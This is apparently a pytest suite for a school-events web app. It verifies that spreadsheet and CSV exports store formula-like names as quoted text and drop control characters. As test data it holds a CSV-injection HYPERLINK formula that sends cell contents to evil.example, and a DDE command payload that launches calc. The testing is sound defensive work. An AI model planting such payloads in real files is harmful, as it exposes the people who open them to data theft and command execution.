"""Exports are safe: text that starts like a formula stays text, control characters are dropped.

Names come from parents, walk-ins and imports, so every export (the school's roster, the door
list, the parents' contacts, the indicators in XLSX and CSV, the baseline templates) is
downloaded here with a formula and a control character in a name and read back.
"""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from formats.spreadsheets import (
    FORMULA_TRIGGERS,
    append_row,
    csv_bytes,
    csv_value,
    styled_cell,
    write_cell,
    xlsx_template,
)
from models import Audience, OrgKind, ParentSignup, Role, db, now_utc

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")'
CONTROL = "Ива\x01нов\x07\x1b"  # PostgreSQL refuses NUL in text, so no \x00 in the database
CLEANED = "Иванов"


def _workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def _no_formulas(data: bytes) -> None:
    """No sheet of the workbook holds a formula element at all."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def _cell_with(sheet, text: str):
    found = [c for row in sheet.iter_rows() for c in row if c.value == text]
    assert found, f"{text!r} not in {[c.value for r in sheet.iter_rows() for c in r]}"
    return found[0]


def _assert_text_cell(sheet, text: str) -> None:
    cell = _cell_with(sheet, text)
    assert cell.data_type == "s"
    assert cell.quotePrefix is True  # Excel keeps it text when the cell is edited


def _assert_safe_xlsx(response, texts=(FORMULA,), cleaned=(CLEANED,), sheet_name=None):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    _no_formulas(response.data)
    book = _workbook(response.data)
    sheet = book[sheet_name] if sheet_name else book.worksheets[0]
    for text in texts:
        _assert_text_cell(sheet, text)
    values = " ".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value)
    for text in cleaned:
        assert text in values
    assert not any(ch in values for ch in "\x01\x07\x1b")


# ---------------------------------------------------------------------------------------------
# The helpers every export uses


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
@pytest.mark.parametrize("write_only", [False, True], ids=["workbook", "write-only"])
def test_each_formula_trigger_is_stored_as_quoted_text(trigger, write_only):
    text = f"{trigger}1+cmd|' /C calc'!A0"
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Лист") if write_only else workbook.active
    append_row(sheet, [text, -5, -2.5, "-5", "+7,5", "Обычный текст", None,
                       styled_cell(sheet, "@bold"), "#N/A", "a\x00b\x0bc"])
    if not write_only:
        write_cell(sheet, 2, 1, text)
    buffer = io.BytesIO()
    workbook.save(buffer)
    _no_formulas(buffer.getvalue())
    cells = list(_workbook(buffer.getvalue()).worksheets[0].iter_rows())
    row = cells[0]
    text = text.replace("\r", "\n")  # XML reads a CR back as a line feed
    assert (row[0].value, row[0].data_type, row[0].quotePrefix) == (text, "s", True)
    assert [(c.value, c.data_type) for c in row[1:3]] == [(-5, "n"), (-2.5, "n")]
    assert [(c.value, c.data_type, c.quotePrefix) for c in row[3:6]] == [
        ("-5", "s", False), ("+7,5", "s", False), ("Обычный текст", "s", False)]
    assert row[6].value is None
    assert (row[7].value, row[7].quotePrefix) == ("@bold", True)
    assert (row[8].value, row[8].data_type) == ("#N/A", "s")  # not an error cell
    assert row[9].value == "abc"
    if not write_only:
        assert (cells[1][0].value, cells[1][0].quotePrefix) == (text, True)


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_csv_fields_starting_like_a_formula_get_a_quote(trigger):
    assert csv_value(f"{trigger}SUM(A1)") == f"'{trigger}SUM(A1)"


def test_csv_keeps_numbers_and_plain_text_and_drops_control_characters():
    data = csv_bytes(["Имя", "=Заголовок"],
                     [[FORMULA, -5, "-5", "-2,5", "'уже с кавычкой", "a\x00b\x1fc", 3.5]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Имя", "'=Заголовок"],
                    ["'" + FORMULA, "-5", "-5", "-2,5", "'уже с кавычкой", "abc", "3.5"]]


def test_template_examples_are_written_safely():
    from formats.spreadsheets import Column

    data = xlsx_template([Column("a", "Фамилия")], [[FORMULA], [CONTROL]])
    _no_formulas(data)
    sheet = _workbook(data).active
    _assert_text_cell(sheet, FORMULA)
    assert sheet["A3"].value == CLEANED


# ---------------------------------------------------------------------------------------------
# Every export, through its page


@pytest.fixture
def school(factory):
    return factory.create_org()


def test_school_roster_export(client, auth, factory, school):
    coordinator = factory.create_user(Role.COORDINATOR, organization=school)
    factory.create_student(school, last_name=FORMULA, first_name=CONTROL, middle_name="-1+2")
    db.session.commit()
    auth.login(coordinator.email)
    response = client.get("/school/students.xlsx")
    _assert_safe_xlsx(response, texts=(FORMULA, "-1+2"))


def test_door_list_export(client, auth, factory, school):
    organizer_org = factory.create_org(kind=OrgKind.UNIVERSITY)
    organizer = factory.create_user(Role.ORGANIZER, organization=organizer_org)
    event = factory.create_event(organizer=organizer_org, title="@Фестиваль\x07",
                                 venue_name="+Корпус", venue_address="ул. Ленина")
    student = factory.create_student(school, last_name=FORMULA, first_name=CONTROL)
    factory.create_ticket(event, student)
    db.session.commit()
    auth.login(organizer.email)
    response = client.get(f"/organizer/events/{event.id}/door-list.xlsx")
    _assert_safe_xlsx(response, texts=(f"{FORMULA} {CLEANED}", "@Фестиваль"))
    sheet = _workbook(response.data).worksheets[0]
    assert sheet["A1"].font.b  # the styled title cell went through the same helper


def test_parent_contacts_export(client, auth, factory, school):
    organizer = factory.create_user(Role.ORGANIZER)
    event = factory.create_event(organizer=organizer.organization, audience=Audience.PARENTS,
                                 category_code="parents", grades_min=None, grades_max=None)
    signup = ParentSignup(event_id=event.id, name=FORMULA + CONTROL, phone="+79001234567",
                          email="-mama@example.ru", child_organization_id=school.id,
                          consent_version="1", consent_at=now_utc(),
                          manage_secret_hash="b" * 64)
    db.session.add(signup)
    db.session.flush()
    factory.create_ticket(event, signup)
    db.session.commit()
    auth.login(organizer.email)
    response = client.get(f"/organizer/events/{event.id}/contacts.xlsx")
    _assert_safe_xlsx(response, texts=(FORMULA + CLEANED, "-mama@example.ru"),
                      sheet_name="Родители")
    phone = _cell_with(_workbook(response.data)["Родители"], "+79001234567")
    assert phone.data_type == "s" and not phone.quotePrefix  # a phone number is not a formula


@pytest.fixture
def admin(factory):
    user = factory.create_user(Role.ADMIN)
    return user


def test_indicators_xlsx_and_csv_exports(client, auth, factory, admin):
    factory.create_org(name=FORMULA + CONTROL)
    db.session.commit()
    auth.login(admin.email)
    response = client.get("/reports/indicators.xlsx")
    _assert_safe_xlsx(response, texts=(FORMULA + CLEANED,), sheet_name="Показатели")
    sheet = _workbook(response.data)["Показатели"]
    row = _cell_with(sheet, FORMULA + CLEANED).row
    assert [sheet.cell(row, c).data_type for c in (3, 4)] == ["n", "n"]  # figures stay numbers

    response = client.get("/reports/indicators.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    ours = [r for r in rows if FORMULA in r[0]]
    assert [r[0] for r in ours] == ["'" + FORMULA + CLEANED]
    assert ours[0][2:4] == ["0", "0"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_baseline_templates(client, auth, factory, admin, fmt):
    factory.create_org(name=FORMULA + CONTROL, external_id="=1+1")
    db.session.commit()
    auth.login(admin.email)
    response = client.get(f"/admin/baselines/template.{fmt}?year=2025")
    if fmt == "xlsx":
        _assert_safe_xlsx(response, texts=(FORMULA + CLEANED, "=1+1"))
    else:
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
        ours = [r for r in rows if FORMULA in r[1]]
        assert [r[:2] for r in ours] == [["'=1+1", "'" + FORMULA + CLEANED]]


# ---------------------------------------------------------------------------------------------
# No export bypasses the helpers

SOURCES = ("webapp", "reports", "checkin", "models", "formats", "errors")


def _python_sources():
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    for folder in SOURCES:
        for path in sorted((root / folder).rglob("*.py")):
            if path.name != "spreadsheets.py":
                yield path.relative_to(root), path.read_text(encoding="utf-8")


def test_no_module_writes_cells_or_csv_around_the_helpers():
    import re

    raw_cell_write = re.compile(r"\.cell\([^()]*,[^()]*,")  # sheet.cell(row, col, value)
    raw_append = re.compile(r"\b(ws|sheet|notes|worksheet|book|wb)\w*\.append\(")
    offenders = []
    for path, text in _python_sources():
        if "csv.writer" in text or "csv.DictWriter" in text:
            offenders.append(f"{path}: csv writer (use formats.spreadsheets.csv_bytes)")
        if "openpyxl" in text:
            for pattern in (raw_cell_write, raw_append):
                offenders += [f"{path}: {m.group(0)} (use write_cell / append_row)"
                              for m in pattern.finditer(text)]
    assert offenders == []
